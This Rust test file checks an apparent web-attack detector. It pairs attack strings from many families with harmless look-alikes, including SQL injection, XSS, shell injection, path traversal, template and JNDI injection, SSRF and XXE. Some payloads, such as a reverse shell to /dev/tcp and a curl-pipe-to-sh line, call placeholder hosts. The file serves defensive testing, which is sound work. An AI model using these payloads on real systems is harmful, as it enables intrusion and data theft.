//! Attacks by family, each beside a value that is like it and harmless.

use detect::{Families, Family, Place, THRESHOLD, inspect};

fn found(place: Place, value: &[u8]) -> Option<Family> {
    inspect(place, value, Families::NONE)
        .filter(|finding| finding.score >= THRESHOLD)
        .map(|finding| finding.family)
}

fn check(family: Family, place: Place, cases: &[(&str, &str)]) {
    for (attack, twin) in cases {
        assert_eq!(found(place, attack.as_bytes()), Some(family), "{attack:?}");
        assert_eq!(
            found(place, twin.as_bytes()),
            None,
            "{twin:?}: {:?}",
            inspect(place, twin.as_bytes(), Families::NONE)
        );
        // Brackets and a quote around it make no JSON of it: wherever it is found but for them, it is found in them.
        let wrapped = format!("[1{attack}\"]");
        if found(place, format!("{wrapped} x").as_bytes()).is_some() {
            assert!(found(place, wrapped.as_bytes()).is_some(), "{wrapped:?}");
        }
    }
}

#[test]
fn sql() {
    check(
        Family::Sql,
        Place::Value,
        &[
            ("x' or '1'='1", "O'Brien or D'Angelo"),
            ("1 or 1=1", "1 or 2 pieces"),
            ("admin'--", "Conan -- CEO"),
            ("' or 1--", "it's 1 of 3"),
            ("1' and sleep(5)#", "1 and sleep well"),
            ("-1 union all select null,null--", "credit union, all select members"),
            ("1;drop table users", "chairs; drop table at the door"),
            ("1 UnIoN/**/SeLeCt/**/1,2", "Union Select Committee of 1912"),
            ("1) order by 10--", "order by 10 pm"),
            ("1;waitfor delay '0:0:5'--", "wait for a delay of 5 minutes"),
            ("1' || (select password from users where id=1) || '", "select a file from the list"),
            ("case when (1=1) then 1 else 0 end", "in case when it rains then 1 umbrella"),
            ("1 and ascii(substr((select user()),1,1))>64", "the ascii art of 64 characters"),
            ("x' having 1=1--", "having 1 or 2 children"),
            ("1 and extractvalue(1,concat(0x7e,version()))", "extract value 1 of version 7"),
            ("(select count(*) from information_schema.tables)", "(select one of the tables)"),
            ("1'; exec xp_cmdshell 'dir'--", "the exec's dinner"),
            ("%' and '%'='", "100% and more"),
            ("1/*!50000union*/select 1", "1/2 union"),
            ("1--x\nunion--x\nselect--x\n2,3", "one--or two--\nunion -- of\nselect -- members"),
            ("1#x\norder#x\nby#x\n10-- -", "#1\n#order\n#by 10"),
            ("1 union all values (null,2)", "the union of values (see 2)"),
            ("1 union values row(1,2)", "a union values row after row"),
            ("-1 union table users", "1 union table of 12"),
            ("1 and (quarter(null) xor 2) is null", "1 and (perhaps) a half"),
            ("1 and binary 2=binary 2", "1 and binary 2"),
            ("cast(1 as decimal)", "cast (1 of 2) as Hamlet"),
            ("(8266=8266)*9900", "(82) * 99"),
            ("{x !0}*1", "{x} * 1"),
            ("1--", "1-2"),
            ("%1%'% %o%r% %1%=%1", "5% of %s and 10% off"),
            (
                "1 and case when 1=1 then 1 else 0 end",
                "fixed the case when n < 2 of `select' and 'or' (see substring())",
            ),
            ("char(113)||char(112)||char(113)", "char 113 and 112"),
        ],
    );
}

#[test]
fn script() {
    check(
        Family::Script,
        Place::Value,
        &[
            ("<script>alert(1)</script>", "the script of a play"),
            ("\"><img src=x onerror=alert(1)>", "a > b and c < d"),
            ("\" onfocus=alert(1) autofocus=\"", "the \"on\" switch = 1"),
            ("javascript:alert(1)", "JavaScript: the good parts"),
            ("java\tscript:alert(1)", "java, script, and more"),
            ("<svg/onload=prompt(1)>", "svg is a format, see https://example.com"),
            ("<iframe src=//example.com>", "iframe tags are old"),
            ("<a href=\"jav&#x61;script:alert(1)\">x</a>", "<b>bold</b> &amp; <i>italic</i>"),
            ("';alert(document.cookie)//", "be alert; 'cookies' are served"),
            ("<div style=\"width: expression(1)\">", "the style of an expression"),
            ("<base href=http://example.com/>", "all your base"),
            ("[][(![]+[])[+[]]]+[!![]]", "[x] done [ ] open (1+1)"),
        ],
    );
}

#[test]
fn shell_and_paths() {
    check(
        Family::Shell,
        Place::Value,
        &[
            (";id", "50% off; more"),
            ("a|whoami", "a | b"),
            ("`id`", "`name`"),
            ("$(curl http://example.com/x|sh)", "$(price)"),
            ("x; c'a't /tmp/x", "x; cat's toy"),
            ("& ping -n 10 127.0.0.1 &", "R&D & ping pong"),
            ("/bin/ls -la", "bin 7, ls 4"),
            ("a;wget${IFS}http://example.com", "a; b ${x}"),
            ("() { :;}; echo x", "() and {}"),
            ("x\npython3 -c 1", "works with\nPython 3."),
            ("x$(make)", "use $(MAKE) instead"),
            ("x `id`", "``python3``, or `wget-log'."),
            ("IF        2            GEQ 15    echo x", "if (uc(wide) == uc(narrow))"),
            ("if a==b echo x", "If the logger is in use, exit when n == 0."),
            ("/???/c?t /tmp/x", "what??? / why?"),
            ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "bash is a shell"),
        ],
    );
    check(
        Family::Path,
        Place::Value,
        &[
            ("../../etc/passwd", "a..b/c"),
            ("....//....//etc/hosts", "wait.... // what"),
            ("..\\..\\windows\\win.ini", "c:\\photos\\mine.jpg"),
            ("/etc/passwd", "please do not edit the file /etc/passwd by hand, thank you"),
            ("php://filter/convert.base64-encode/resource=index", "php.net/filter"),
            ("x.php\0.jpg", "x.php.jpg"),
            ("/..///x", "/../x y"),
        ],
    );
    check(Family::Path, Place::Path, &[(".git", ".well-known"), ("..%2f..%2fx", "1..2")]);
}

#[test]
fn expressions_and_code() {
    check(
        Family::Template,
        Place::Value,
        &[
            ("{{7*7}}", "{{user}}"),
            ("${7*7}", "${name}"),
            ("{{''.__class__.__mro__}}", "{{ first }} {{ last }}"),
            ("#{T(java.lang.Math).random()}", "#{id}"),
            ("#set($x=7)", "#settings"),
        ],
    );
    check(
        Family::Jndi,
        Place::Value,
        &[("${jndi:ldap://example.com/a}", "jndi and ldap"), ("${${::-j}ndi:x}", "${a}${b}")],
    );
    check(
        Family::Code,
        Place::Value,
        &[
            ("<?php system('id');", "php has a system"),
            ("__import__('os').system('id')", "import os"),
            ("java.lang.Runtime.getRuntime().exec('x')", "java.time"),
            ("require('child_process').exec('x')", "requires a child process"),
            ("class.module.classLoader.URLs[0]", "class.module"),
            ("$_GET['x']", "$5 to get"),
        ],
    );
}

#[test]
fn stores_and_objects() {
    check(Family::NoSql, Place::Name, &[("user[$ne]", "user[name]"), ("$where", "where")]);
    check(Family::NoSql, Place::Value, &[("{\"$gt\":\"\"}", "{\"gt\":\"5\"}"), ("{$ne: 1}", "{ne: 1}")]);
    check(
        Family::Directory,
        Place::Value,
        &[("*)(uid=*", "(uid)"), ("admin)(|(password=*)", "admin (password)")],
    );
    check(Family::Directory, Place::Value, &[("//user[name(..)]/parent::node()", "//user/name")]);
    check(
        Family::Serialized,
        Place::Value,
        &[
            ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "r00ABX"),
            ("O:8:\"stdClass\":0:{}", "O: 8 \"stdClass\""),
            ("!!python/object/apply:os.system", "!!important"),
            ("{\"rce\":\"_$$ND_FUNC$$_function(){}\"}", "{\"f\":\"function\"}"),
        ],
    );
    check(
        Family::Prototype,
        Place::Name,
        &[("__proto__", "proto"), ("constructor[prototype][x]", "constructor")],
    );
}

#[test]
fn targets_and_messages() {
    check(
        Family::Ssrf,
        Place::Value,
        &[
            ("http://127.0.0.1:8080/admin", "http://example.com:8080/admin"),
            ("http://169.254.169.254/latest/meta-data/", "http://www.example.com/latest/meta-data/"),
            ("http://2130706433/", "http://example.org/2130706433"),
            ("http://0x7f.1/", "https://x7f.example/"),
            ("http://a@[::1]/", "mailto:a@example.com"),
            ("gopher://x:70/_", "gophers"),
            ("http://10.0.0.1/x", "version 10.0.0.1"),
            ("localhost/server-status", "localhost"),
        ],
    );
    check(Family::Split, Place::Value, &[("x\r\nSet-Cookie: a=b", "x\r\nset cookies on the table")]);
    check(
        Family::Entity,
        Place::Value,
        &[
            ("<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///x\">]>", "<!DOCTYPE html>"),
            ("<!DOCTYPE x SYSTEM \"http://example.com/x.dtd\">", "entity & system"),
        ],
    );
}

#[test]
fn header_fields_are_read_as_such() {
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0; id";
    assert_eq!(found(Place::Header, agent.as_bytes()), None);
    let opera = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10";
    assert_eq!(found(Place::Header, opera.as_bytes()), None);
    assert_eq!(
        found(Place::Header, b"http://127.0.0.1:3000/"),
        None,
        "a page of a developer refers to itself"
    );
    assert_eq!(found(Place::Header, b"${jndi:ldap://example.com}"), Some(Family::Jndi));
    assert_eq!(found(Place::Header, b"() { :;}; /bin/id"), Some(Family::Shell));
}
